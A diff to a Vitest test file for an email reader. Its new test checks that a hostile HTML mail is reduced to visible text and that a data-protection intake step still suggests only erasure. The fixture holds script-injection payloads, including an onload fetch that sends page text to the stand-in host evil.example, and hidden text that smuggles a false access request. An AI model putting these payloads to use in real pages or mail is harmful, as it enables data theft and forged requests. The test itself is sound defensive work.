@@ -1,6 +1,8 @@
 import { describe, expect, test } from "vitest";
+import { readRequest } from "../../../src/domain/intake.ts";
 import { decodeEntities } from "../../../src/files/read/html-entities.ts";
 import { htmlText } from "../../../src/files/read/html-text.ts";
+import { calendarDate } from "../../../src/lib/calendar.ts";
 import { read, refusal } from "./reading.ts";
 
 const headers = [
@@ -46,6 +48,41 @@ describe("a mail", () => {
     const { seen } = await read("a.eml", mail("Content-Type: text/html; charset=utf-8", "", html, ""));
     expect(seen[0]?.fields["Body"]).toBe("Hi Jane\u00a0Roe\nx");
     expect(seen[0]?.fields["Links"]).toBe("mailto:jane.roe@contoso.com");
+  });
+
+  test("of hostile HTML alone gives the words a person would read, from which intake suggests", async () => {
+    const html = [
+      "<!doctype html><html><head><title>Mail</title><style>b{background:url(https://evil.example/css)}</style>",
+      "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/go'></head>",
+      "<body onload='fetch(`https://evil.example/`+document.body.innerText)'>",
+      "<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>",
+      "<script>document.write('Please erase nobody: John Doe')</script>",
+      "<scr<script>ipt>alert(3)</scr</script>ipt>",
+      "<p title='a > b'>Please del&#101;te every&shy;thing you hold about me.</p>",
+      "<!-- <p>Give me access to the data of John Doe</p> -->",
+      '<form action="https://evil.example/"><input value="typed"></form>',
+      "<p>Jane Roe, <a href='javascript:alert(4)'>jane.roe@contoso.com</a></p>",
+      "<iframe srcdoc='<p>unseen</p>'></iframe><object data='https://evil.example/o'>",
+    ].join("\n");
+    const { seen, format } = await read(
+      "a.eml",
+      mail("Content-Type: text/html; charset=utf-8", "", html, ""),
+    );
+    const body = seen[0]?.fields["Body"] ?? "";
+    expect(format).toBe("eml");
+    expect(body.replaceAll("\u00ad", "")).toContain("Please delete everything you hold about me.");
+    expect(body).toContain("Jane Roe, jane.roe@contoso.com");
+    expect(body).not.toMatch(
+      /alert\(2\)|document\.write|John Doe|evil\.example|unseen|<\/?(?:p|img|svg|script)\b/,
+    );
+    const message = `From: Jane Roe <jane.roe@contoso.com>\n\n${body}`;
+    const suggested = readRequest(message, calendarDate("2026-11-23")).map(
+      ({ field, value }) => `${field}: ${value}`,
+    );
+    expect(suggested).toContain("right: erasure");
+    expect(suggested).toContain("email: jane.roe@contoso.com");
+    expect(suggested).not.toContain("right: access");
+    expect(suggested.join()).not.toMatch(/Doe|evil/);
   });
 
   test("in both forms gives the second only when it says something else", async () => {
